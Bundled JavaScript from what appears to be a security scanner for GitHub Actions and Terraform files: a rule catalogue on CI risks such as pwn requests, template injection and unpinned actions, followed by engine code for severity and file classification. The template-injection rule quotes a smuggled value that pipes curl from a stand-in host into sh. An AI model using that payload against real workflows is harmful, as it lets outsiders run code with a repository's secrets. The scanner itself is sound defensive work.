"tags": ["actions", "oidc", "aws", "iam-wildcard", "ci-untrusted-checkout"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"] }),
  deferred("github-actions", { "id": "gha-pull-request-write-permissions", "title": "Pull request workflow grants write access to code, packages or workflows", "severity": "medium", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job"], "description": "Workflows started by pull requests run code and actions on content the pull request's author controls. Write access to `contents`, `actions`, `packages` or `deployments` in such a workflow turns any injection or compromised dependency into a push to the default branch, a tampered release or a published package.", "remediation": "Keep pull request workflows read-only (`contents: read`); grant `pull-requests: write` or `checks: write` if they comment or report. Do writes that need more in a workflow triggered by `push` or `release`.", "precision": "medium", "cwe": ["CWE-272"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions"] }, "tags": ["actions", "permissions", "pull_request", "ci-token-permissions"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"] }),
  deferred("github-actions", { "id": "gha-secrets-inherit", "title": "Reusable workflow call passes every secret", "severity": "medium", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["job"], "description": "`secrets: inherit` hands the called workflow every secret of the calling repository and organisation, not just the ones it uses. A compromised or later-modified called workflow (especially one pinned to a branch or tag) can read them all.", "remediation": "Pass only the secrets the called workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.", "precision": "very-high", "cwe": ["CWE-250"], "tags": ["actions", "secrets", "reusable-workflows"], "references": ["https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow"] }),
  deferred("github-actions", { "id": "gha-secrets-to-json", "title": "Every secret is passed to one step", "severity": "medium", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job", "step"], "description": "`toJSON(secrets)` serialises all the secrets available to the workflow (repository, environment and organisation secrets) into one value. Whatever receives it, a script or an action, holds every credential instead of the one it needs, and a single leak exposes them all.", "remediation": "Pass each secret the step needs by name: `env: NPM_TOKEN: ${{ secrets.NPM_TOKEN }}`.", "precision": "very-high", "cwe": ["CWE-250"], "tags": ["actions", "secrets"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"] }),
  deferred("github-actions", { "id": "gha-untrusted-checkout-id-token", "title": "Job that checks out pull request code can mint OIDC tokens", "severity": "high", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["job"], "description": "`id-token: write` lets any step of the job request an OpenID Connect token for this repository, which cloud providers exchange for credentials (an AWS role, a GCP service account, a package registry). In a `pull_request_target`, `workflow_run` or `issue_comment` job that checks out a pull request's code, that code can request the token and act as the repository in the cloud.", "remediation": "Do not grant `id-token: write` to jobs that handle pull request code. Move the deployment or publishing to a separate job that only runs trusted code, or to a workflow triggered by `push` or `release`.", "precision": "high", "cwe": ["CWE-269", "CWE-829"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions", "Dangerous-Workflow"] }, "tags": ["actions", "oidc", "pull_request_target", "ci-token-permissions"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"] }),
  deferred("github-actions", { "id": "gha-untrusted-checkout-secrets", "title": "Secrets used after checking out pull request code", "severity": "high", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "Once a `pull_request_target`, `workflow_run` or `issue_comment` job has checked out a pull request's code, every later step shares the runner with it: files the pull request planted (a `.npmrc`, a git hook, a replaced binary on the path) run with whatever the step is given. Secrets passed to those steps are as good as handed to the pull request's author.", "remediation": "Split the work: one unprivileged `pull_request` job handles the untrusted code, a separate job that never checks it out uses the secrets. Never pass secrets to steps that run after an untrusted checkout.", "precision": "medium", "cwe": ["CWE-200", "CWE-829"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "secrets", "pull_request_target", "ci-untrusted-checkout"], "references": ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"] }),
  deferred("github-actions", { "id": "gha-tls-verification-disabled", "title": "TLS certificate verification disabled in a workflow", "severity": "medium", "category": "encryption", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job", "step"], "description": "Turning off certificate checks (`curl -k`, `wget --no-check-certificate`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`) lets anyone on the network path impersonate the server: downloads can be replaced and credentials sent over that connection read, while the job still holds its token and secrets.", "remediation": "Remove the switch; if the server uses a private certificate authority, trust that authority explicitly (`--cacert`, `NODE_EXTRA_CA_CERTS`, `http.sslCAInfo`).", "precision": "high", "cwe": ["CWE-295"], "tags": ["actions", "tls", "encryption-in-transit"], "references": ["https://curl.se/docs/sslcerts.html"] }),
  deferred("github-actions", { "id": "gha-action-not-pinned", "title": "Action or reusable workflow not pinned to a commit SHA", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step", "job"], "description": "`uses:` names a tag or a branch. Tags and branches move: whoever controls the action's repository (or steals its maintainer's token, as in the tj-actions/changed-files compromise) changes the code this workflow runs, with its secrets and token. Only a full 40-character commit SHA is immutable.", "remediation": "Pin to the full commit SHA of the release and keep the version in a comment (`uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`); let Dependabot or Renovate update the pins. Owners you trust can be allowed with the rule option `trustedOwners`.", "precision": "very-high", "cwe": ["CWE-829"], "frameworks": { "OpenSSF Scorecard": ["Pinned-Dependencies"] }, "tags": ["actions", "pinning", "unpinned-dependency"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"] }),
  deferred("github-actions", { "id": "gha-artifact-poisoning", "title": "workflow_run workflow uses artifacts from the triggering run unsafely", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "A `workflow_run` workflow runs with the repository's secrets after a `pull_request` run, whose artifacts the pull request's author fully controls. Downloading them into the workspace and then unzipping, sourcing or executing anything there lets the author overwrite scripts, inject environment variables or replace files that later steps trust (artifact poisoning).", "remediation": "Download the artifact to `${{ runner.temp }}`, treat its content as untrusted data (validate numbers, never `source` it or write it to `$GITHUB_ENV`), and never run code from it.", "precision": "medium", "cwe": ["CWE-829", "CWE-494"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "workflow_run", "artifacts", "ci-untrusted-checkout"], "references": ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#workflow_run"] }),
  deferred("github-actions", { "id": "gha-cache-poisoning", "title": "Release job restores a cache that other workflows can write", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "GitHub Actions caches are shared across the workflows of a branch, and a default-branch cache is visible to every branch. A workflow that runs untrusted code (a `pull_request_target` job, a compromised dependency in a test job) can write a poisoned cache entry that this release job then restores, so that the published artifact contains the attacker's code.", "remediation": "Do not restore caches in jobs that build or publish releases: build from a clean state, or use `actions/cache/restore` only with keys that untrusted workflows cannot create, and set `cache: ''` / `cache: false` on setup actions there.", "precision": "medium", "cwe": ["CWE-349", "CWE-829"], "tags": ["actions", "cache-poisoning", "ci-untrusted-checkout"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/caching-dependencies-to-speed-up-workflows#restrictions-for-accessing-a-cache", "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/"] }),
  deferred("github-actions", { "id": "gha-comment-triggered-checkout", "title": "Comment-triggered workflow checks out pull request code for any commenter", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "An `issue_comment` workflow runs in the base repository with its secrets and a writable token, and anyone who can comment can trigger it. Checking out the pull request's code without first checking that the commenter is a maintainer lets any user run a fork's code with those privileges by posting a comment such as `/test`.", "remediation": `Gate the job on the commenter: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.comment.author_association)\`, or check the commenter's permission through the API before checking out. Better still, let the comment add a label or dispatch a workflow that runs without secrets.`, "precision": "medium", "cwe": ["CWE-829", "CWE-284"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "issue_comment", "ci-untrusted-checkout"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#issue_comment", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"] }),
  deferred("github-actions", { "id": "gha-compromised-action", "title": "Action version known to have been compromised", "severity": "critical", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step", "job"], "description": "The action is referenced at a version or commit that an attacker took over, such as the tj-actions/changed-files and reviewdog/action-setup tags moved in March 2025 to code that printed every secret of the job into its public log. A workflow that ran it must assume its secrets are leaked; one that still references it is trusting a ref the maintainers have disowned.", "remediation": "Upgrade to the first release after the incident (tj-actions/changed-files 46.0.1 or later) pinned by commit SHA, or replace the action. Rotate every secret the workflow could read while the compromised version was in use and check past run logs for leaked values.", "precision": "very-high", "cwe": ["CWE-506", "CWE-829"], "frameworks": { "OpenSSF Scorecard": ["Pinned-Dependencies", "Vulnerabilities"] }, "tags": ["actions", "compromised", "vulnerable-component"], "references": ["https://github.com/advisories/GHSA-mrrh-fwg8-r2c3", "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc", "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-tj-actionschanged-files-cve-2025-30066-and-reviewdogaction"] }),
  deferred("github-actions", { "id": "gha-container-image-not-pinned", "title": "Job container, service or docker action image not pinned to a digest", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["job", "step"], "description": "A job's `container:`, its `services:` and `docker://` steps pull images by tag. Tags can be pushed again, so whoever controls the image (or its registry account) changes the code that runs with the job's token and secrets, without any change to the workflow.", "remediation": "Reference images by digest, keeping the tag for readers: `image: node:20.11-bookworm@sha256:…`; let Dependabot or Renovate update digests.", "precision": "very-high", "cwe": ["CWE-829", "CWE-1357"], "frameworks": { "OpenSSF Scorecard": ["Pinned-Dependencies"] }, "tags": ["actions", "containers", "pinning", "unpinned-dependency"], "references": ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idcontainer"] }),
  deferred("github-actions", { "id": "gha-deprecated-action-version", "title": "Deprecated or archived action version", "severity": "low", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "The step uses a major version of an official action that is deprecated (it runs on an end-of-life Node.js runtime or calls a retired service) or an action that is archived. Such versions get no security fixes, and GitHub forces or breaks them over time.", "remediation": "Upgrade to the current major version of the action (or its maintained replacement) and pin it by commit SHA.", "precision": "high", "cwe": ["CWE-1104"], "tags": ["actions", "deprecated-version"], "references": ["https://github.blog/changelog/2024-03-07-github-actions-all-actions-will-run-on-node20-instead-of-node16-by-default/"] }),
  deferred("github-actions", { "id": "gha-dispatch-input-injection", "title": "Manually dispatched input expanded into a script", "severity": "low", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "A free-text `workflow_dispatch` input, or a `repository_dispatch` client payload, is pasted into a shell script before it runs. Only users and tokens with write access can dispatch, but a quote or `$(…)` in the value still runs as code with the workflow's secrets, which may be more than the dispatcher should hold (environment secrets, deploy keys).", "remediation": 'Pass the value through `env:` and quote it in the script (`"$VERSION"`); declare inputs as `choice`, `boolean` or `number` where possible, and validate free text.', "precision": "medium", "cwe": ["CWE-94"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "template-injection", "workflow_dispatch", "ci-untrusted-input"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"] }),
  deferred("github-actions", { "id": "gha-download-without-checksum", "title": "Downloaded binary installed without checksum verification", "severity": "low", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "The script downloads a file and makes it executable or installs it, but never checks it against a known checksum or signature. If the download host, a mirror or the release is tampered with, the job runs the replacement with its token and secrets, and the change leaves no trace in the repository.", "remediation": "Pin the file's SHA-256 next to its URL and check it before use (`echo \"<sha256>  kubectl\" | sha256sum --check`), verify the publisher's signature, or install the tool through a pinned action or package.", "precision": "medium", "cwe": ["CWE-494"], "frameworks": { "OpenSSF Scorecard": ["Pinned-Dependencies"] }, "tags": ["actions", "downloads", "unpinned-dependency"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"] }),
  deferred("github-actions", { "id": "gha-event-payload-in-script", "title": "Whole event payload expanded into a script", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "`${{ toJSON(github.event) }}` pastes the entire event into the script: titles, bodies, branch names and commit messages included. JSON escaping does not make it safe for a shell (a `'` ends a single-quoted string) or for JavaScript, so anyone who can open an issue or pull request can inject code.", "remediation": 'Read the event from the file the runner provides (`jq . "$GITHUB_EVENT_PATH"`, `context.payload` in github-script), or pass the fields you need through `env:`.', "precision": "high", "cwe": ["CWE-94"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "template-injection", "ci-untrusted-input"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"] }),
  deferred("github-actions", { "id": "gha-known-vulnerable-action", "title": "Action or reusable workflow version with a known vulnerability", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step", "job"], "description": "The referenced version of the action or reusable workflow is affected by a published security advisory, for example code injection from pull request content. The workflow inherits the flaw with its token and secrets until it moves to a fixed release.", "remediation": "Upgrade to the fixed release named in the advisory and pin it by commit SHA.", "precision": "very-high", "cwe": ["CWE-1395"], "frameworks": { "OpenSSF Scorecard": ["Vulnerabilities"] }, "tags": ["actions", "vulnerable-component"], "references": ["https://github.com/advisories?query=type%3Areviewed+ecosystem%3Aactions"] }),
  deferred("github-actions", { "id": "gha-remote-script-exec", "title": "Script downloaded and executed without verification", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "`curl … | sh` runs whatever the server returns at that moment, with the job's token and secrets. A compromised host, a moved branch in the URL, or a hijacked domain changes the code without any change to the workflow, and nothing checks what was run.", "remediation": "Download to a file, verify its checksum or signature (`sha256sum --check`), then run it; or fetch it from a URL pinned to a commit SHA or a versioned release asset; or use a pinned action or package instead.", "precision": "high", "cwe": ["CWE-494", "CWE-829"], "frameworks": { "OpenSSF Scorecard": ["Pinned-Dependencies"] }, "tags": ["actions", "remote-script-exec"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"] }),
  deferred("github-actions", { "id": "gha-self-hosted-runner-pull-request", "title": "Self-hosted runner used by a pull request workflow", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["job"], "description": "In a public repository, anyone can open a pull request from a fork and run code on the runners of workflows it triggers. Self-hosted runners are not wiped between jobs: that code can persist on the machine, read the next job's secrets, or reach the network the runner sits in.", "remediation": "Use GitHub-hosted runners for pull request workflows, or ephemeral, isolated self-hosted runners (just-in-time, one job each) in a runner group not available to public repositories; require approval for workflows from outside contributors.", "precision": "medium", "cwe": ["CWE-668"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "self-hosted", "ci-untrusted-checkout"], "references": ["https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security"] }),
  deferred("github-actions", { "id": "gha-signature-verification-disabled", "title": "Package or plugin installed with signature verification disabled", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "The script turns off the check that proves a downloaded package, plugin or repository comes from its publisher (`--verify=false`, `--allow-unauthenticated`, `--nogpgcheck`, `GOSUMDB=off`). Whatever a mirror, a proxy or a compromised source serves is then installed and run with the job's token and secrets.", "remediation": "Remove the switch and import the publisher's signing key, pin the version and checksum, or install from a source that can be verified.", "precision": "high", "cwe": ["CWE-347", "CWE-494"], "frameworks": { "OpenSSF Scorecard": ["Pinned-Dependencies"] }, "tags": ["actions", "verification", "unpinned-dependency"], "references": ["https://helm.sh/docs/topics/provenance/"] }),
  deferred("github-actions", { "id": "gha-spoofable-bot-check", "title": "Privileged job trusts a pull request because of who triggered the event", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["job", "step"], "description": "`github.actor` is the user who caused the latest event, not the pull request's author. When a bot such as Dependabot updates or rebases an outsider's pull request, or an attacker gets it to act on their branch, a condition like `github.actor == 'dependabot[bot]'` is true for code the bot did not write, and a `pull_request_target` or `workflow_run` job auto-merges or runs it with its privileges.", "remediation": "Check the pull request's author instead (`github.event.pull_request.user.login == 'dependabot[bot]'`) and, for Dependabot, use `dependabot/fetch-metadata`; never auto-approve on the actor alone.", "precision": "medium", "cwe": ["CWE-290"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "bot-conditions", "ci-untrusted-input"], "references": ["https://securitylab.github.com/resources/github-actions-building-blocks/"] }),
  deferred("github-actions", { "id": "gha-template-injection", "title": "Attacker-controlled context expanded into a script", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": 'A `${{ }}` expression that reads text an outsider controls (an issue or pull request title or body, a comment, a branch name, a commit message…) is pasted into a shell script or an `actions/github-script` script before it runs. A title such as `"; curl evil.sh | sh; echo "` then runs with the job\'s token and secrets.', "remediation": 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`"$TITLE"`), or as `process.env.TITLE` in github-script.', "precision": "high", "cwe": ["CWE-94"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "template-injection", "ci-untrusted-input"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"] }),
  deferred("github-actions", { "id": "gha-unsecure-commands", "title": "Deprecated set-env and add-path workflow commands re-enabled", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job", "step"], "description": "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns back on the `::set-env` and `::add-path` commands that GitHub disabled because any text a step prints could use them. A log line that echoes a pull request title, a file name or a dependency's output can then set `LD_PRELOAD`, `NODE_OPTIONS` or the `PATH` of every later step and run code there.", "remediation": "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead; upgrade actions that still print `::set-env`.", "precision": "very-high", "cwe": ["CWE-77"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "ci-insecure-setting"], "references": ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"] }),
  deferred("github-actions", { "id": "gha-untrusted-checkout-exec", "title": "Privileged workflow runs code from a pull request", "severity": "critical", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "After checking out a pull request's code, this `pull_request_target`, `workflow_run` or `issue_comment` job runs something from that tree: a package install with its lifecycle scripts, a Makefile, a test suite, a repository script or a local action. The pull request's author decides what that code does, and it runs with the repository's secrets and a token that can write.", "remediation": "Run builds and tests of pull requests in a `pull_request` workflow. In the privileged workflow, work only on trusted code (the base branch) and read the pull request's results as artifacts, treated as data.", "precision": "high", "cwe": ["CWE-829", "CWE-94"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "pull_request_target", "workflow_run", "ci-untrusted-checkout"], "references": ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"] }),
  deferred("github-actions", { "id": "gha-untrusted-checkout", "title": "Privileged workflow checks out pull request code", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "`pull_request_target` and `workflow_run` workflows run with the base repository's secrets and a token that can write, even for pull requests from forks. Checking out the pull request's head (or the head of the run that triggered the workflow) puts code an outsider wrote into that privileged job, where any build script, test or local action can steal the token and secrets (a \"pwn request\").", "remediation": "Build and test untrusted code in a `pull_request` workflow, which has no secrets and a read-only token for forks. If the privileged workflow needs the results, pass them as artifacts and treat them as data. If it must see the code, check it out into a separate directory and never execute anything from it.", "precision": "high", "cwe": ["CWE-829"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "pull_request_target", "workflow_run", "ci-untrusted-checkout"], "references": ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target"] }),
  deferred("github-actions", { "id": "gha-untrusted-input-github-env", "title": "Attacker-controlled text written to GITHUB_ENV or GITHUB_PATH", "severity": "high", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "Lines written to the `$GITHUB_ENV` file become environment variables of every later step, and `$GITHUB_PATH` lines are searched for commands first. When the text comes from an issue, a comment, a branch name or a commit message, a newline in it lets its author set `LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV` or the path, and so run code in later steps, even when the value is quoted safely in this one.", "remediation": "Do not pass untrusted text through environment files. Keep it in the step's own `env:` where it is needed; if a later step needs it, use a step output and validate it (a number, a fixed pattern) first, or write it with a random heredoc delimiter.", "precision": "high", "cwe": ["CWE-77", "CWE-94"], "frameworks": { "OpenSSF Scorecard": ["Dangerous-Workflow"] }, "tags": ["actions", "github-env", "ci-untrusted-input"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable", "https://securitylab.github.com/resources/github-actions-untrusted-input/"] }),
  deferred("github-actions", { "id": "gha-untrusted-input-github-output", "title": "Attacker-controlled text written to GITHUB_OUTPUT", "severity": "medium", "category": "supply-chain", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "Each `name=value` line in `$GITHUB_OUTPUT` becomes a step output. Untrusted text (an issue title, a comment, a branch name) with a newline in it can forge other outputs of the step, and later steps or jobs that trust those outputs (a version, a target environment, a flag) then act on the attacker's values.", "remediation": "Validate the value before writing it (a number, an allowed pattern), or write it with a random heredoc delimiter; never expand such outputs into scripts.", "precision": "medium", "cwe": ["CWE-74"], "tags": ["actions", "step-outputs", "ci-untrusted-input"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-output-parameter"] })
];

// packages/engine/src/model/diagnostic.ts
function describeDiagnostic(diagnostic) {
  const file = diagnostic.range?.file ?? diagnostic.file;
  if (!file) return diagnostic.message;
  const start = diagnostic.range?.start;
  return start ? `${file}:${start.line}:${start.column}: ${diagnostic.message}` : `${file}: ${diagnostic.message}`;
}

// packages/cli/src/write-output.ts
import { promises as fs2 } from "node:fs";
import path2 from "node:path";
async function writeOutputAtomically(file, text) {
  const existing = await fs2.stat(file).catch(() => void 0);
  if (existing && !existing.isFile() && !existing.isDirectory()) {
    await fs2.writeFile(file, text);
    return;
  }
  const directory = path2.dirname(path2.resolve(file));
  await fs2.mkdir(directory, { recursive: true });
  const temporary = path2.join(directory, `.${path2.basename(file)}.${process.pid}.tmp`);
  try {
    await fs2.writeFile(temporary, text);
    await fs2.rename(temporary, file);
  } catch (error) {
    await fs2.rm(temporary, { force: true });
    throw error;
  }
}

// packages/engine/src/report/severity.ts
var RANK = { critical: 4, high: 3, medium: 2, low: 1 };
function compareSeverity(a, b) {
  return RANK[b] - RANK[a];
}
function atOrAbove(severity, threshold) {
  return RANK[severity] >= RANK[threshold];
}
var SARIF_LEVEL = {
  critical: "error",
  high: "error",
  medium: "warning",
  low: "note"
};
function sarifLevel(severity) {
  return SARIF_LEVEL[severity];
}
var SECURITY_SEVERITY = {
  critical: "9.5",
  high: "8.0",
  medium: "5.5",
  low: "3.0"
};
function securitySeverity(severity) {
  return SECURITY_SEVERITY[severity];
}
var PROBLEM_SEVERITY = {
  critical: "error",
  high: "error",
  medium: "warning",
  low: "recommendation"
};
function problemSeverity(severity) {
  return PROBLEM_SEVERITY[severity];
}
function countBySeverity(severities) {
  const counts = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0]));
  for (const severity of severities) counts[severity]++;
  return counts;
}

// packages/engine/src/model/scan-result.ts
function hasInputErrors(result) {
  return result.diagnostics.some((diagnostic) => diagnostic.level === "error");
}

// packages/engine/src/discover/discover.ts
var import_ignore = __toESM(require_ignore(), 1);
import fs3 from "node:fs";
import path4 from "node:path";

// packages/engine/src/discover/classify.ts
import path3 from "node:path";
var CANDIDATE_EXTENSIONS = [".tf", ".tf.json", ".tfvars", ".tfvars.json", ".json", ".yml", ".yaml"];
function isCandidate(file) {
  const lower = file.toLowerCase();
  return CANDIDATE_EXTENSIONS.some((extension) => lower.endsWith(extension));
}
var SNIFF_LENGTH = 64 * 1024;
function classify(file, text) {
  const lower = file.toLowerCase();
  const base = path3.posix.basename(lower);
  if (lower.endsWith(".tf")) return "terraform";
  if (lower.endsWith(".tf.json")) return "terraform-json";
  if (lower.endsWith(".tfvars") || lower.endsWith(".tfvars.json")) return "tfvars";
  const head = text.slice(0, SNIFF_LENGTH);
  if (lower.endsWith(".yml") || lower.endsWith(".yaml")) {
    if (/(^|\/)\.github\/workflows\/[^/]+$/.test(lower)) return "workflow";
    if (base === "action.yml" || base === "action.yaml") return /^runs\s*:/m.test(head) ? "action-metadata" : void 0;
    return sniffYaml(head);
  }
  if (lower.endsWith(".json")) return sniffJson(head);
  if (file === "-") return sniffJson(head) ?? sniffYaml(head);
  return void 0;
}
function sniffJson(head) {
  const trimmed = head.trimStart();
  if (!trimmed.startsWith("{")) return void 0;
  if (/"format_version"\s*:/.test(head)) {
    if (/"(resource_changes|planned_values)"\s*:/.test(head)) return "plan";
    if (/"values"\s*:/.test(head)) return "state";
    return /"terraform_version"\s*:/.test(head) ? "plan" : void 0;
  }
  if (/"apiVersion"\s*:/.test(head) && /"kind"\s*:/.test(head)) return "kubernetes";
  return void 0;
}
function sniffYaml(head) {
  if (/^apiVersion\s*:/m.test(head) && /^kind\s*:/m.test(head)) return "kubernetes";
  if (/^[ \t]*(?:-[ \t]*)?apiVersion[ \t]*:/m.test(head) && /^[ \t]*kind[ \t]*:/m.test(head)) return "kubernetes";
  if (/^["']?on["']?\s*:/m.test(head) && /^jobs\s*:/m.test(head)) return "workflow";
  return void 0;
}

// packages/engine/src/limits.ts
import { performance } from "node:perf_hooks";

// packages/engine/src/graph/terraform/literal.ts
function evaluateStatic(expression) {
  switch (expression.kind) {
    case "literal":
      return typeof expression.value === "number" && !Number.isFinite(expression.value) ? Unknown : expression.value;
    case "template":
      return evaluateTemplate(expression.parts);
    case "tuple":
      return expression.items.map(evaluateStatic);
    case "object": {
      const object = emptyObject();
      for (const item of expression.items) {
        const key = objectKey(evaluateStatic(item.key));
        if (key === void 0) return Unknown;
        object[key] = evaluateStatic(item.value);
      }
      return object;
    }
    case "unary": {
      const operand = evaluateStatic(expression.operand);
      if (expression.operator === "-" && typeof operand === "number") return -operand;
      if (expression.operator === "!" && typeof operand === "boolean") return !operand;
      return Unknown;
    }
    case "parenthesis":
      return evaluateStatic(expression.expression);
    case "call":
      if (expression.name === "jsonencode" && expression.args.length === 1 && !expression.expandFinal) {
        const argument = evaluateStatic(expression.args[0]);
        return isFullyKnown(argument) ? encodeJson(argument) : argument;
      }
      return Unknown;
    default:
      return Unknown;
  }
}
function objectKey(value) {
  if (typeof value === "string") return value;
  if (typeof value === "number") return formatNumber(value);
  if (typeof value === "boolean") return String(value);
  return void 0;
}
function evaluateTemplate(parts) {
  if (parts.length === 1 && typeof parts[0] !== "string" && parts[0].kind !== "templateIf" && parts[0].kind !== "templateFor") {
    return evaluateStatic(parts[0]);
  }
  let text = "";
  for (const part of parts) {
    if (typeof part === "string") {
      text += part;
      continue;
    }
    if (part.kind === "templateIf" || part.kind === "templateFor") return Unknown;
    const value = evaluateStatic(part);
    if (typeof value === "string") text += value;
    else if (typeof value === "number") text += formatNumber(value);
    else if (typeof value === "boolean") text += String(value);
    else return Unknown;
  }
  return text;
}
function isFullyKnown(value) {
  if (isUnknown(value)) return false;
  if (Array.isArray(value)) return value.every(isFullyKnown);
  if (isObject(value)) return Object.values(value).every(isFullyKnown);
  return true;
}
function encodeJson(value) {
  if (value === null) return "null";
  if (typeof value === "boolean") return String(value);
  if (typeof value === "number") return formatNumber(value);
  if (typeof value === "string") return encodeJsonString(value);
  if (Array.isArray(value)) return `[${value.map(encodeJson).join(",")}]`;
  if (isObject(value)) {
    const keys = Object.keys(value).sort(compareStrings);
    return `{${keys.map((key) => `${encodeJsonString(key)}:${encodeJson(value[key])}`).join(",")}}`;
  }
  throw new Error("cannot encode an unknown value");
}
function compareStrings(a, b) {
  const length = Math.min(a.length, b.length);
  for (let index = 0; index < length; index++) {
    const left = a.codePointAt(index) ?? 0;
    const right = b.codePointAt(index) ?? 0;
    if (left !== right) return left - right;
    if (left > 65535) index++;
  }
  return a.length - b.length;
}
var GO_ESCAPES = {
  '"': '\\"',
  "\\": "\\\\",
  "\n": "\\n",
  "\r": "\\r",
  "	": "\\t",
  "\b": "\\b",
  "\f": "\\f",
  "<": "\\u003c",
  ">": "\\u003e",
  "&": "\\u0026",
